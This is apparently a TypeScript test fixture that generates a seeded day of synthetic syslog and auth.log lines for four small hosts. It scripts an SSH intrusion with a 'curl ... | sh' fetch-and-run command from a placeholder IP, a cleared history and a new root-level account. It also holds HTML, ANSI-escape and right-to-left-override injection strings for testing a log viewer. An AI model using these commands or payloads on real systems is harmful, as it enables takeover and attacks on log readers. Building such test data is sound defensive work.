/** One line of a log, on the machine and in the file where it was written. */
export interface StoryLine {
  readonly timeUs: number;
  readonly host: string;
  readonly path: string;
  readonly text: string;
}

/** When the story is looked at. */
export const STORY_NOW_US = Date.parse('2026-11-20T14:32:08Z') * 1000;

const AUTH = '/var/log/auth.log';
const SYSLOG = '/var/log/syslog';
const HISTORY = '/home/deploy/.bash_history';
const MINUTE_US = 60_000_000;

/**
 * A day on four machines: everyday lines, a password guesser who gets in and runs what he fetched, another who tries
 * names, a new account, and lines that mean to harm whoever reads them. Always the same.
 */
export function storyLines(): StoryLine[] {
  const random = generator(20261120);
  const lines = [
    ...everyday(random),
    ...guesser(random),
    ...names(random),
    ...hands(),
    ...typed(),
    ...hostile(),
  ];
  return lines.sort((a, b) => a.timeUs - b.timeUs);
}

const ago = (minutes: number): number => STORY_NOW_US - Math.round(minutes * MINUTE_US);

/** A syslog line with the time stamp that rsyslog writes by default. */
export function syslog(timeUs: number, host: string, path: string, message: string): StoryLine {
  const stamp = new Date(timeUs / 1000).toISOString().replace('Z', '000+00:00');
  return { timeUs, host, path, text: `${stamp} ${host} ${message}` };
}

function* everyday(random: () => number): Generator<StoryLine> {
  const hosts = ['pi1', 'pi2', 'pi3', 'nas'];
  for (let minute = 1438; minute > 0; minute -= minute > 70 ? 5 : 1) {
    const busy = 2 + Math.round(3 * random() + 2 * Math.sin(minute / 90));
    for (let i = 0; i < busy; i++) {
      const at = ago(minute - random() * 0.9);
      const host = hosts[Math.floor(random() * hosts.length)] ?? 'pi1';
      if (host === 'pi3' && minute < 14) continue;
      const pid = 1000 + Math.floor(random() * 30_000);
      const kinds = [
        () =>
          syslog(
            at,
            host,
            SYSLOG,
            `CRON[${pid}]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)`,
          ),
        () =>
          syslog(
            at,
            host,
            SYSLOG,
            'systemd[1]: Started sysstat-collect.service - system activity accounting tool.',
          ),
        () =>
          syslog(
            at,
            host,
            SYSLOG,
            `dockerd[812]: level=info msg="ignoring event" container=${pid.toString(16)}c4 topic=/tasks/delete`,
          ),
        () => syslog(at, host, SYSLOG, 'systemd[1]: logrotate.service: Deactivated successfully.'),
        () =>
          syslog(
            at,
            host,
            AUTH,
            `CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
          ),
        () => syslog(at, host, AUTH, `CRON[${pid}]: pam_unix(cron:session): session closed for user root`),
      ];
      yield (kinds[Math.floor(random() * kinds.length)] ?? kinds[0]!)();
    }
  }
}

function* guesser(random: () => number): Generator<StoryLine> {
  for (let i = 0; i < 46; i++) {
    const at = ago(23 - i * 0.1);
    const port = 40_000 + Math.floor(random() * 9000);
    yield syslog(
      at,
      'pi1',
      AUTH,
      `sshd[${2100 + i}]: Failed password for deploy from 203.0.113.45 port ${port} ssh2`,
    );
  }
  yield syslog(
    ago(18.2),
    'pi1',
    AUTH,
    'sshd[2161]: Accepted password for deploy from 203.0.113.45 port 48812 ssh2',
  );
  yield syslog(
    ago(18.1),
    'pi1',
    AUTH,
    'sshd[2161]: pam_unix(sshd:session): session opened for user deploy(uid=1004) by (uid=0)',
  );
}

function* names(random: () => number): Generator<StoryLine> {
  const tried = [
    'admin',
    'oracle',
    'test',
    'ubuntu',
    'pi',
    'git',
    'postgres',
    'ftpuser',
    'hadoop',
    'minecraft',
    'user1',
    'www',
  ];
  for (const [index, name] of tried.entries()) {
    const at = ago(41 - index * 0.2);
    const port = 50_000 + Math.floor(random() * 9000);
    yield syslog(
      at,
      'nas',
      AUTH,
      `sshd[${3300 + index}]: Invalid user ${name} from 198.51.100.23 port ${port}`,
    );
    yield syslog(
      at + 900_000,
      'nas',
      AUTH,
      `sshd[${3300 + index}]: Failed password for invalid user ${name} from 198.51.100.23 port ${port} ssh2`,
    );
  }
}

function* hands(): Generator<StoryLine> {
  yield syslog(
    ago(180),
    'pi2',
    AUTH,
    'sshd[900]: Accepted publickey for anna from 198.18.0.20 port 51022 ssh2: ED25519 SHA256:bM4mM1m3fU0sJ7gQpAqk1m3vG9sYd0r6Jt4ZxWc2h5E',
  );
  yield syslog(
    ago(179),
    'pi2',
    AUTH,
    'sudo:     anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/bin/apt update',
  );
  yield syslog(
    ago(16.5),
    'pi1',
    AUTH,
    'sudo:   deploy : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash',
  );
  yield syslog(
    ago(15.1),
    'pi1',
    AUTH,
    'useradd[2290]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1',
  );
}

/** What bash keeps: a time stamp of its own before each command. */
function* typed(): Generator<StoryLine> {
  const commands: readonly (readonly [number, string])[] = [
    [17.8, 'id'],
    [17.5, 'curl -fsSL http://198.51.100.77/x.sh | sh'],
    [14.9, 'history -c'],
  ];
  for (const [minutes, command] of commands) {
    const timeUs = ago(minutes);
    for (const text of [`#${Math.floor(timeUs / 1_000_000)}`, command])
      yield { timeUs, host: 'pi1', path: HISTORY, text };
  }
}

/** Text that would run, colour, reorder or hide if anything showed it as other than text. */
export const HOSTILE = [
  'sshd[4001]: Invalid user <img src=x onerror=alert(1)> from 198.51.100.66 port 52110',
  'sshd[4002]: Invalid user \u001b[2J\u001b[31mroot\u001b[0m from 198.51.100.66 port 52111',
  'sshd[4003]: Invalid user \u202egnp.tset from 198.51.100.66 port 52112',
];

function* hostile(): Generator<StoryLine> {
  for (const [index, text] of HOSTILE.entries()) yield syslog(ago(0.6 - index * 0.1), 'nas', AUTH, text);
}

/** Numbers from 0 to 1 that are the same in every run (mulberry32). */
function generator(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
